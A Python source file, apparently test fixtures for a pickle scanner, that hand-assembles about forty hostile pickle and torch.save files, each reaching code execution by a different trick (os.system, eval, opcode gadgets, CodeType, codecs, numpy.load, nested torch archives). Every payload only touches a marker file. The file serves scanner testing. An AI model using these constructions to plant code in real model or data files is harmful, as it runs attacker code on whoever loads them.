"""Files that run code when they are unpickled, each by another way; every one leaves a marker file when it fires.

They are put together from pickle instructions by hand, since Python's own pickler refuses to write half of them.
`FILES` has a function of the marker's path for each. Run as a script, this file opens others the way nobody should:
`hostile.py FILE...` unpickles each in a process of its own.
"""

import io
import os
import pickle  # noqa: TID251 - to show that the files are hostile
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

# Instructions. Each helper gives the bytes that leave one value on the stack.


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def text(value: object) -> bytes:
    data = str(value).encode()
    return b"X" + struct.pack("<I", len(data)) + data


def raw(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def row(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def many(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + row(*arguments) + b"R"


def program(value: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + value + b"."


SYSTEM, GETATTR = name("os", "system"), name("builtins", "getattr")
IMPORT = name("importlib", "import_module")
NONE, NO_HOOKS = b"N", call(name("collections", "OrderedDict"))


def command(marker: Path) -> bytes:
    return text(f"touch {marker}")


def fire(marker: Path) -> bytes:
    """The plainest way, for files whose trick is where it hides."""
    return call(SYSTEM, command(marker))


def module(marker: Path) -> bytes:
    """Instructions that put a folder with a hostile module on the path, and leave None."""
    folder = marker.parent / f"{marker.name}_modules"
    folder.mkdir(exist_ok=True)
    (folder / "hostile_module.py").write_text(f"open({str(marker)!r}, 'w').close()")
    path = call(GETATTR, call(IMPORT, text("sys")), text("path"))
    return call(call(GETATTR, path, text("insert")), number(0), text(folder))


def code(marker: Path) -> bytes:
    """types.CodeType with the byte code of a function that touches the marker."""
    made = compile(f"open({str(marker)!r}, 'w').close()", "x", "exec")
    fields = [
        number(made.co_argcount), number(made.co_posonlyargcount), number(made.co_kwonlyargcount),
        number(made.co_nlocals), number(made.co_stacksize), number(made.co_flags), raw(made.co_code),
        row(*(text(value) if isinstance(value, str) else NONE for value in made.co_consts)),
        row(*(text(value) for value in made.co_names)), row(), text("x"), text("x"), text("x"), number(1),
        raw(made.co_linetable), raw(made.co_exceptiontable),
    ]  # fmt: skip
    return call(name("types", "CodeType"), *fields)


def numpy_file(marker: Path) -> bytes:
    """An .npy file of an object array, which holds a pickle again; and the call that opens it."""
    path = marker.with_suffix(".npy")
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }".ljust(117) + b"\n"
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + program(fire(marker)))
    return call(name("numpy", "load"), text(path), NONE, b"\x88")


def script(marker: Path) -> bytes:
    path = marker.with_suffix(".py")
    path.write_text(f"open({str(marker)!r}, 'w').close()")
    return text(path)


def partial(*arguments: bytes) -> bytes:
    return call(name("functools", "partial"), *arguments)


# Files of torch.save.


def storage(kind: bytes = name("torch", "FloatStorage")) -> bytes:
    return row(text("storage"), kind, text("0"), text("cpu"), number(1)) + b"Q"


def tensor(hooks: bytes = NO_HOOKS, source: bytes | None = None) -> bytes:
    rebuild = name("torch._utils", "_rebuild_tensor_v2")
    return call(rebuild, source or storage(), number(0), row(number(1)), row(number(1)), b"\x89", hooks)


def archive(*pickles: bytes) -> bytes:
    """A zip file as torch writes it, with as many data.pkl as are given."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the second
        for content in pickles:
            made.writestr("archive/data.pkl", content)
        for entry, content in (("byteorder", b"little"), ("data/0", bytes(4)), ("version", b"3\n")):
            made.writestr(f"archive/{entry}", content)
    return file.getvalue()


def legacy(system: bytes, value: bytes) -> bytes:
    """What torch wrote before 1.6: pickles one after another."""
    magic, protocol = pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2)
    return magic + protocol + system + value + pickle.dumps([], 2)


SYSTEM_INFO = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)


def weights(value: bytes) -> bytes:
    """A state dict with one entry."""
    return program(NO_HOOKS + text("model.weight") + value + b"s", 2)


FILES: dict[str, Callable[[Path], bytes]] = {
    "os.system": lambda m: program(fire(m)),
    "subprocess": lambda m: program(call(name("subprocess", "check_call"), many(text("touch"), text(m)))),
    "eval": lambda m: program(call(name("builtins", "eval"), text(f"open({str(m)!r}, 'w').close()"))),
    "exec": lambda m: program(call(name("builtins", "exec"), text(f"open({str(m)!r}, 'w').close()"))),
    "open": lambda m: program(call(name("builtins", "open"), text(m), text("w"))),
    "__import__": lambda m: program(many(module(m), call(name("builtins", "__import__"), text("hostile_module")))),
    "importlib": lambda m: program(many(module(m), call(IMPORT, text("hostile_module")))),
    "getattr chain": lambda m: program(call(call(GETATTR, call(IMPORT, text("os")), text("system")), command(m))),
    "dotted name": lambda m: program(call(text("shutil") + text("os.system") + b"\x93", command(m))),
    "INST": lambda m: program(b"(" + command(m) + b"ios\nsystem\n", 0),
    "OBJ": lambda m: program(b"(" + name("subprocess", "Popen") + many(text("touch"), text(m)) + b"o", 1),
    "NEWOBJ": lambda m: program(
        call(name("builtins", "list"), name("builtins", "map") + row(SYSTEM, many(command(m))) + b"\x81")
    ),
    "NEWOBJ_EX": lambda m: program(
        call(name("builtins", "list"), name("builtins", "map") + row(SYSTEM, many(command(m))) + b"}\x92")
    ),
    "copyreg.__newobj__": lambda m: program(
        call(
            name("builtins", "list"),
            call(name("copyreg", "__newobj__"), name("builtins", "map"), SYSTEM, many(command(m))),
        )
    ),
    "copyreg._reconstructor": lambda m: program(
        call(
            name("copyreg", "_reconstructor"),
            name("subprocess", "Popen"),
            name("subprocess", "Popen"),
            many(text("touch"), text(m)),
        )
    ),
    "memo": lambda m: program(many(SYSTEM + b"q\x07", b"h\x07" + row(command(m)) + b"R")),
    "functools.partial": lambda m: program(call(partial(SYSTEM, command(m)))),
    "BUILD": lambda m: program(
        call(partial(name("builtins", "print")) + row(SYSTEM, row(command(m)), b"}", b"}") + b"b")
    ),
    "OrderedDict state": lambda m: program(NO_HOOKS + b"}" + text("_metadata") + fire(m) + b"sb"),
    "defaultdict": lambda m: program(
        call(
            name("operator", "getitem"),
            call(name("collections", "defaultdict"), partial(SYSTEM, command(m))),
            text("x"),
        )
    ),
    "attrgetter": lambda m: program(
        call(call(call(name("operator", "attrgetter"), text("system")), call(IMPORT, text("os"))), command(m))
    ),
    "methodcaller": lambda m: program(
        call(call(name("operator", "methodcaller"), text("system"), command(m)), call(IMPORT, text("os")))
    ),
    "codecs": lambda m: program(
        many(
            module(m),
            call(name("codecs", "register"), IMPORT),
            call(name("_codecs", "encode"), text("x"), text("hostile_module")),
        )
    ),
    "CodeType": lambda m: program(call(call(name("types", "FunctionType"), code(m), b"}"))),
    "runpy": lambda m: program(call(name("runpy", "run_path"), script(m))),
    "pty.spawn": lambda m: program(call(name("pty", "spawn"), many(text("touch"), text(m)))),
    "webbrowser": lambda m: program(
        call(
            call(GETATTR, call(name("webbrowser", "GenericBrowser"), many(text("touch"), text("%s"))), text("open")),
            text(m),
        )
    ),
    "socket": lambda m: program(
        call(call(GETATTR, call(name("socket", "socket"), number(1)), text("bind")), text(m.name))
    ),
    "numpy.load": lambda m: program(numpy_file(m)),
    "numpy.memmap": lambda m: program(
        call(name("numpy", "memmap"), text(m), text("uint8"), text("w+"), number(0), row(number(1)))
    ),
    "torch.load inside": lambda m: program(
        call(name("torch.storage", "_load_from_bytes"), raw(archive(program(fire(m), 2))))
    ),
    "torch: value": lambda m: archive(weights(fire(m))),
    "torch: hooks of a tensor": lambda m: archive(weights(tensor(hooks=fire(m)))),
    "torch: storage type": lambda m: archive(weights(tensor(source=storage(fire(m))))),
    "torch: persistent id": lambda m: archive(weights(fire(m) + b"Q")),
    "torch: two data.pkl": lambda m: archive(weights(fire(m)), weights(tensor())),
    "torch: legacy": lambda m: legacy(SYSTEM_INFO, weights(fire(m))),
    "torch: legacy system info": lambda m: legacy(program(fire(m), 2), weights(NONE)),
}  # fmt: skip


def _open_as_nobody_should(path: Path) -> None:
    if path.name.startswith("torch"):
        import torch

        torch.load(path, weights_only=False)  # noqa: TID251
    else:
        with path.open("rb") as file:
            pickle.load(file)


def main(arguments: list[str]) -> None:
    import numpy  # noqa: F401 - imported once, before the children
    import torch  # noqa: F401

    for path in arguments:
        child = os.fork()
        if not child:
            try:
                _open_as_nobody_should(Path(path))
            except BaseException as error:
                print(Path(path).name, repr(error)[:200], file=sys.stderr)
            os._exit(0)
        os.waitpid(child, 0)


if __name__ == "__main__":
    main(sys.argv[1:])
